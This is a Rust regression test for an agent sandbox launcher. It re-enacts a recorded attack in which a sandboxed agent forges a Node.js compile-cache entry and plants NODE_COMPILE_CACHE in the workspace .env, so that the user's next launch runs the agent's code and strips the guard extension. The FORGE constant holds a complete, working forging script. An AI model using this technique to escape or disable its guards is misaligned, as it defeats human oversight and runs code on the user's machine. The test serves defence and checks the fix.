//! The Node.js 24 compile cache attacked through a workspace `.env` (session-24 attack,
//! `docs/attacks/session-24-node-cache.md`): the agent forges a cache entry for pi's
//! `dist/cli.js` in the workspace and names its directory in `NODE_COMPILE_CACHE`; the user's
//! next `ags --agent pi --env-file .env` would run the agent's code in place of pi, without
//! ags's guard extension. The test performs the attack in the agent image and fails on the code
//! before the fix (the name was accepted then).

use std::path::Path;

use crate::common;

use common::TestEnv;
use common::agents::AGENT_IMAGE;
use common::launch::{assert_clean, stderr, stdout};
use common::{each_mode, show};

/// The forging steps, run by the agent in launch A (`python3 FORGE` in the workspace): pi's
/// `cli.js` with its first comment replaced by code of the same length (write the marker, drop
/// the `-e EXTENSION` pair from `process.argv`), compiled from the workspace into a scratch
/// cache, its 20-byte header (magic, source size, cache size, source CRC32, cache CRC32)
/// patched to the real file's size and CRC32 and stored under the real file's key in the cache
/// directory Node made for this uid; then the variable appended to the workspace's `.env`.
/// Node names an entry by the CRC32 of the code type (1, ESM) and the file's URL.
const FORGE: &str = r#"import os, struct, subprocess, zlib
W = os.getcwd()
real = os.path.realpath("/usr/local/bin/pi")
src = open(real).read()
s = src.index("/**"); e = src.index("*/", s) + 2
payload = ('import{writeFileSync as W}from"node:fs";let a=process.argv,k=a.indexOf("-e");'
           'if(k>0)a.splice(k,2);try{W("PWNED-compile-cache","uid="+process.getuid()+" "+a)}catch{}')
assert len(payload) <= e - s, (len(payload), e - s)
os.makedirs(W + "/.cache/evil", exist_ok=True)
open(W + "/.cache/evil/package.json", "w").write('{"type":"module"}')
evil = W + "/.cache/evil/cli.js"
open(evil, "w").write(src[:s] + payload + " " * (e - s - len(payload)) + src[e:])
ncc, scratch = W + "/.cache/ncc", W + "/.cache/scratch"
subprocess.run(["pi", "--version"], env=dict(os.environ, NODE_COMPILE_CACHE=ncc), check=True)
# Fails at the first import (no `undici` beside the copy): the module is compiled and cached first.
subprocess.run(["node", evil], env=dict(os.environ, NODE_COMPILE_CACHE=scratch), stderr=subprocess.DEVNULL)
(sub,) = os.listdir(ncc)
key = lambda path: "%08x" % zlib.crc32(b"\x01" + ("file://" + path).encode())
data = open(scratch + "/" + sub + "/" + key(evil), "rb").read()
orig = open(real, "rb").read()
h = list(struct.unpack("<5I", data[:20])); h[1] = len(orig); h[3] = zlib.crc32(orig)
open(ncc + "/" + sub + "/" + key(real), "wb").write(struct.pack("<5I", *h) + data[20:])
open(W + "/.env", "a").write("NODE_COMPILE_CACHE=" + ncc + "\n")
print("forged", sub, key(real))
"#;

/// The marker the forged entry writes into the working directory when it runs.
const MARKER: &str = "PWNED-compile-cache";

/// Launch A forges the entry and names it in `.env`; launch B, the user's `ags --agent pi
/// --env-file .env -- --version`, is refused with 125 naming the variable and the planted code
/// does not run. The control, pi started by hand with the variable in an `--agent shell`
/// launch (ags cannot refuse a variable a shell sets inside), runs the planted code and drops
/// the `-e` pair: the forged entry works on this image, so the refusal is what stops it.
#[test]
fn a_forged_compile_cache_named_in_an_env_file_is_refused() {
    each_mode(|env| {
        if !common::api::image_exists(&env.mode().socket(), AGENT_IMAGE).unwrap_or(false) {
            println!("SKIP: {}: no {AGENT_IMAGE} in this service", env.mode());
            return;
        }
        let work = env.work_dir();
        env.write_file(work.join("forge.py"), FORGE, 0o644);
        let out = launch(env, "shell", &[], &["python3", "forge.py"]);
        assert_eq!(out.status.code(), Some(0), "launch A: {}", show(&out));
        assert!(stdout(&out).contains("forged"), "launch A: {}", show(&out));
        let ncc = format!("NODE_COMPILE_CACHE={}", work.join(".cache/ncc").display());
        let dotenv = std::fs::read_to_string(work.join(".env")).expect("the workspace's .env");
        assert!(dotenv.lines().any(|l| l == ncc), "{dotenv}");
        assert!(!work.join(MARKER).exists(), "launch A ran the forged entry");

        let out = launch(env, "pi", &["--env-file", ".env"], &["--version"]);
        let said = std::fs::read_to_string(work.join(MARKER)).unwrap_or_default();
        assert!(
            said.is_empty(),
            "launch B ran the forged entry ({said}): {}",
            show(&out)
        );
        assert_eq!(out.status.code(), Some(125), "launch B: {}", show(&out));
        assert!(
            stderr(&out).contains("NODE_COMPILE_CACHE"),
            "launch B: {}",
            show(&out)
        );

        control(env, &work, &ncc);
        common::api::cleanup_state_volumes_under(env.mode(), &work);
        assert_clean(env);
    });
}

/// The control: pi with the forged cache and an `-e` pair, started in an `--agent shell`
/// launch, runs the planted code, which drops the pair before pi reads its arguments.
fn control(env: &TestEnv, work: &Path, ncc: &str) {
    let pi = format!("{ncc} pi -e ags-guard.js --version");
    let out = launch(env, "shell", &[], &["sh", "-c", &pi]);
    assert_eq!(out.status.code(), Some(0), "control: {}", show(&out));
    let said = std::fs::read_to_string(work.join(MARKER))
        .unwrap_or_else(|e| panic!("the forged entry did not run ({e}): {}", show(&out)));
    assert!(said.starts_with("uid="), "{said}");
    assert!(said.ends_with(",--version"), "{said}");
    assert!(!said.contains("ags-guard.js"), "the -e pair stayed: {said}");
}

/// `ags --tty=false --image AGENT_IMAGE --label L --agent AGENT FLAGS… -- ARGS…`.
fn launch(env: &TestEnv, agent: &str, flags: &[&str], args: &[&str]) -> std::process::Output {
    let label = env.label();
    let mut all = vec![
        "--tty=false",
        "--image",
        AGENT_IMAGE,
        "--label",
        &label,
        "--agent",
        agent,
    ];
    all.extend(flags);
    all.push("--");
    all.extend(args);
    env.run(all)
}
